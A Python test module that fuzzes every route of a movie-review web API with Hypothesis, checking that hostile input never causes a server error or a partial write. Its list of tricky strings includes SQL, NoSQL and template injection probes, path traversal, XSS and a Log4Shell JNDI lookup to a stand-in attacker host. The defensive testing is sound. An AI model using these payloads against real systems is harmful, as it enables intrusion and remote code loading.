"""Hostile input on every operation of the route table: never a 500, never a partial write.

For each route the app registers, Hypothesis builds requests from what the
route declares (``http.operation_of``): its path ids, the fields of its
query and body models (values near their documented bounds, and values of
every wrong kind), its content types. Around them: unicode of every kind
(lone surrogates, right-to-left overrides, zero-width and null characters),
numbers too big for any type, very long strings, JSON nested past the
limit, duplicate keys, broken UTF-8 and broken JSON, odd content types and
tokens. Each response must be below 500, strict JSON (RFC 8259: no ``NaN``)
in the contract's shape, and a refused request must leave the table exactly
as it was. ``make fuzz`` (Schemathesis against the dev server) complements
this from the OpenAPI document; this runs in-process in every ``make test``.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from app import app
from chalicelib.http.operations import Operation, operation_of
from chalicelib.http.parsing import MAX_JSON_DEPTH
from tests.helpers.api import PASSWORD, Api, User, user_payload
from tests.helpers.snapshots import Snapshot, changed_keys, restore, table_items
from tests.helpers.worlds import built_once_for, movie_with_a_thread

JSON = "application/json"
FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class World:
    api: Api
    alice: User
    ids: tuple[int, ...]  # a movie, a comment, a reply, alice: ids that exist


@pytest.fixture
def world(api: Api, make_user: Callable[[str], User]) -> World:
    def build() -> World:
        alice = make_user("alice")
        movie, comment, reply = movie_with_a_thread(
            api, alice, {"title": "Fuzzed"}, rater=alice, rating=5, text="Fuzz me", replier=alice
        )
        return World(api, alice, (movie, comment, reply, alice.id))

    return built_once_for(api, "fuzz", build)


# ---------------------------------------------------------------- hostile values

TRICKY_TEXT = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202eevil\u202c",  # right-to-left override
    "\u200b",  # zero-width space
    "\u200d\u200c\ufeff",  # zero-width joiner, non-joiner, BOM
    "\ud800",  # a lone surrogate: not Unicode text at all
    "\udfff\ud800",
    "\U0001d544\U0001d560\U0001d567",  # outside the BMP: surrogate pairs in JSON escapes
    "e\u0301" * 50,  # combining accents
    "\r\n\t",
    "NaN",
    "Infinity",
    "null",
    "-0",
    "1e400",
    "' OR '1'='1",
    '{"$ne": null}',
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "%00%2e%2e%2f",
    "alice",
    "alice@example.com",
    PASSWORD,
]
text = st.one_of(
    st.sampled_from(TRICKY_TEXT),
    st.text(max_size=40),
    st.text(st.characters(categories=["Cs", "Cf", "Zs", "Mn", "Co"]), max_size=20),
    st.integers(min_value=0, max_value=70_000).map(lambda n: "x" * n),
    st.integers(min_value=0, max_value=3_000).map(lambda n: "é\u200b" * n),
)
number = st.one_of(
    st.integers(),
    st.integers(min_value=2**53 - 2, max_value=2**64 + 1),
    st.sampled_from([0, -1, 1, 10, 11, 100, 101, 10_000, 10_001, 2**63, -(2**63), 10**100]),
    st.floats(),  # NaN and the infinities included: json.dumps writes them as NaN / Infinity
)
scalar = st.one_of(st.none(), st.booleans(), number, text)
json_value = st.recursive(
    scalar,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3),
    max_leaves=8,
)


def near_valid(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values at and around what a field's JSON schema allows."""
    options = [option for option in schema.get("anyOf", [schema]) if option.get("type") != "null"]
    schema = {**schema, **options[0]} if options else schema
    kind = schema.get("type")
    if kind == "integer":
        low, high = schema.get("minimum", 0), schema.get("maximum", 2**53)
        return st.sampled_from([low - 1, low, low + 1, high - 1, high, high + 1])
    if kind == "string":
        if schema.get("format") == "email":
            return st.emails()
        if schema.get("format") == "date":
            return st.dates().map(lambda day: day.isoformat())
        low, high = schema.get("minLength", 0), schema.get("maxLength", 300)
        sizes = st.sampled_from(sorted({max(low - 1, 0), low, high, high + 1}))
        if "pattern" in schema and "\\S" not in schema["pattern"]:
            return st.one_of(
                st.from_regex(schema["pattern"], fullmatch=True), sizes.map("a".__mul__)
            )
        return sizes.map(lambda n: ("ab" * n)[:n])
    return json_value


# A body each model accepts, so that changing a field or two reaches past validation.
VALID = {
    "UserCreate": user_payload("fuzzy"),
    "LoginRequest": {"username": "alice", "password": PASSWORD},
    "UserUpdate": {"first_name": "Alison", "username": "alison"},
    "PasswordChange": {"current_password": PASSWORD, "new_password": "a new secret"},
    "RefreshRequest": {"grant_type": "refresh_token", "refresh_token": "1.2.secret.tag"},
    "MovieCreate": {"title": "Fuzzy", "description": "Warm", "release_date": "2020-02-29"},
    "MovieUpdate": {"title": "Fuzzier", "description": None},
    "RatingCreate": {"rating": 7},
    "CommentCreate": {"comment_text": "Fuzzy thoughts"},
    "CommentUpdate": {"comment_text": "Second thoughts"},
}


def field_values(model: type[BaseModel]) -> st.SearchStrategy[dict[str, Any]]:
    """The model's fields, near-valid or of any kind at all: all made up, or one or two
    changed in a valid body."""
    properties = model.model_json_schema()["properties"]
    value = {name: st.one_of(near_valid(schema), json_value) for name, schema in properties.items()}
    made_up = st.fixed_dictionaries({}, optional=value)
    changed = st.fixed_dictionaries({}, optional=dict(list(value.items())[:2])) | st.dictionaries(
        st.sampled_from(sorted(value)), json_value, max_size=2
    )
    return made_up | changed.map(lambda fields: {**VALID[model.__name__], **fields})


# ---------------------------------------------------------------- bodies


def json_text(value: Any) -> bytes:
    return json.dumps(value).encode()  # allow_nan: NaN and Infinity as Python writes them


def with_duplicate_keys(fields: dict[str, Any]) -> bytes:
    """The same keys twice: the first an attacker's, the last whatever was generated."""
    first = ", ".join(f'{json.dumps(key)}: "first"' for key in fields)
    last = ", ".join(f"{json.dumps(key)}: {json.dumps(value)}" for key, value in fields.items())
    return f"{{{first}{', ' if first and last else ''}{last}}}".encode()


def form_text(fields: dict[str, Any]) -> bytes:
    pairs = {name: str(value) for name, value in fields.items()}
    return urlencode(pairs, encoding="utf-8", errors="surrogatepass").encode()


def nested(depth: int) -> bytes:
    return b'{"a": ' * depth + b"1" + b"}" * depth


RAW_BODIES = [
    b"",
    b"   ",
    b"{",
    b"null",
    b"[]",
    b'"just a string"',
    b"NaN",
    b'{"rating": NaN}',
    b'{"title": Infinity, "rating": -Infinity}',
    b'{"rating": 1e400, "title": 1e400}',
    b'{"rating": ' + b"9" * 5000 + b"}",
    b'{"rating": 5}\x00',
    b"\xef\xbb\xbf{}",  # a UTF-8 byte-order mark
    b"\xff\xfe{\x00}\x00",  # UTF-16
    b'{"title": "\xc3\x28"}',  # invalid UTF-8
    b'{"title": "\\ud800"}',
    nested(MAX_JSON_DEPTH - 1),
    nested(MAX_JSON_DEPTH + 1),
    b"[" * 100_000,
]


def bodies(operation: Operation) -> st.SearchStrategy[tuple[bytes, str]]:
    """The body's bytes and its content type."""
    model = operation.body
    fields = field_values(model) if model else st.dictionaries(text, json_value, max_size=3)
    content_type = st.sampled_from(
        [*operation.content_types, JSON, f"{JSON}; charset=utf-8", f"{JSON}; charset=latin-1"]
    )
    odd_type = st.sampled_from(["text/plain", "", "multipart/form-data; boundary=x", FORM, "*/*"])
    encoded = st.one_of(
        fields.map(json_text),
        fields.map(with_duplicate_keys),
        json_value.map(json_text),
        st.sampled_from(RAW_BODIES),
        st.binary(max_size=64),
    )
    form = fields.map(form_text)
    return st.one_of(
        st.tuples(encoded, content_type),
        st.tuples(form, st.just(FORM)),
        st.tuples(encoded, odd_type),
        st.tuples(
            st.integers(0, 70_000).map(lambda n: b'{"x": "' + b"y" * n + b'"}'), st.just(JSON)
        ),
    )


# ---------------------------------------------------------------- requests


@dataclass(frozen=True)
class Request:
    method: str
    path: str
    headers: dict[str, str]
    body: bytes


PATH_SEGMENTS = [
    "0",
    "-1",
    "abc",
    "1e3",
    "1.5",
    "٣",
    "9" * 17,
    "9007199254740992",
    " 1",
    "..",
    "%00",
    "user",
]


def url_segment(value: str) -> str:
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def path_values(world: World) -> st.SearchStrategy[str]:
    known = st.sampled_from([str(value) for value in (*world.ids, 9999)])
    hostile = st.one_of(st.sampled_from(PATH_SEGMENTS), text.filter(bool)).map(url_segment)
    return st.one_of(known, hostile)


def query_strings(operation: Operation) -> st.SearchStrategy[str]:
    names = list(operation.query.model_fields) if operation.query else []
    values = st.one_of(text, number.map(str), st.sampled_from(["", "1", "100", "101", "10001"]))
    pairs = st.lists(st.tuples(st.sampled_from([*names, "user_id", "limit"]), values), max_size=4)
    return pairs.map(lambda items: urlencode(items, encoding="utf-8", errors="surrogatepass"))


def authorizations(world: World) -> st.SearchStrategy[dict[str, str]]:
    good = {"Authorization": f"Bearer {world.alice.token}"}
    bad = st.sampled_from(["Bearer", "Bearer x.y.z", "Basic YTpi", "Bearer " + "A" * 9000])
    return st.one_of(
        st.just(good), st.just(good), st.just({}), bad.map(lambda v: {"Authorization": v})
    )


def requests_for(world: World, method: str, route: str) -> st.SearchStrategy[Request]:
    operation = operation_of(app.routes[route][method].view_function)
    assert operation is not None

    @st.composite
    def build(draw: st.DrawFn) -> Request:
        path = route
        for name in operation.path_params:
            path = path.replace(f"{{{name}}}", draw(path_values(world)))
        query = draw(query_strings(operation))
        headers = draw(authorizations(world))
        payload, content_type = draw(bodies(operation))
        if method in ("GET", "DELETE") and draw(st.booleans()):
            payload, content_type = b"", ""
        if content_type:
            headers = {**headers, "Content-Type": content_type}
        return Request(method, f"{path}?{query}" if query else path, headers, payload)

    return build()


# ---------------------------------------------------------------- what must hold


def strict_json(text: str) -> Any:
    def refuse(constant: str) -> Any:
        raise AssertionError(f"{constant} is not JSON (RFC 8259)")

    return json.loads(text, parse_constant=refuse)


def check(world: World, request: Request, before: Snapshot) -> None:
    response = world.api.client.http.request(
        request.method, request.path, headers=request.headers, body=request.body
    )
    status = response.status_code
    assert status < 500, (status, response.body[:500])
    content_type = response.headers.get("Content-Type", "")
    if content_type.startswith(JSON) and response.body:
        data = strict_json(response.body.decode("utf-8"))
        if status >= 400:
            assert set(data) == {"detail"}, data
    if status >= 400:
        changed = changed_keys(before, table_items())
        if request.path.startswith("/login") and status in (401, 429):
            changed = {key for key in changed if not key[0].startswith("LOGIN#")}
        assert not changed, (status, changed)


def fuzz(world: World, method: str, route: str, examples: int) -> None:
    before = table_items()

    @settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
        database=None,
    )
    @given(request=requests_for(world, method, route))
    def one_request(request: Request) -> None:
        try:
            check(world, request, before)
        finally:
            if table_items() != before:
                restore(before)

    one_request()


def routes() -> list[tuple[str, str]]:
    return sorted((method, path) for path, methods in app.routes.items() for method in methods)


@pytest.mark.parametrize(("method", "route"), routes(), ids=lambda value: value)
def test_hostile_input_is_never_a_500_nor_a_partial_write(
    world: World, method: str, route: str
) -> None:
    fuzz(world, method, route, examples=25)


@pytest.mark.slow
@pytest.mark.parametrize(("method", "route"), routes(), ids=lambda value: value)
def test_hostile_input_is_never_a_500_nor_a_partial_write_over_long_runs(
    world: World, method: str, route: str
) -> None:
    fuzz(world, method, route, examples=200)


def test_every_body_model_has_a_valid_example(api: Api, alice: User) -> None:
    models = {
        operation.body
        for methods in app.routes.values()
        for entry in methods.values()
        if (operation := operation_of(entry.view_function)) is not None and operation.body
    }
    assert {model.__name__ for model in models} == set(VALID)
    for model in models:
        model.model_validate(VALID[model.__name__])


# ---------------------------------------------------------------- what the fuzzing found


@pytest.mark.parametrize(
    "raw",
    [b'{"title": NaN}', b'{"title": Infinity}', b'{"title": -Infinity}', b'{"title": 1e400}'],
)
def test_nan_and_infinity_are_not_json_and_never_echoed(api: Api, alice: User, raw: bytes) -> None:
    """Python's json reads them; echoed in a 422's ``input`` they made the error invalid JSON."""
    response = api.post("/movies", raw=raw, token=alice.token, headers={"Content-Type": JSON})
    assert response.status_code == 422
    [error] = strict_json(response.body.decode())["detail"]
    assert (error["type"], error["loc"]) == ("json_invalid", ["body", 0])
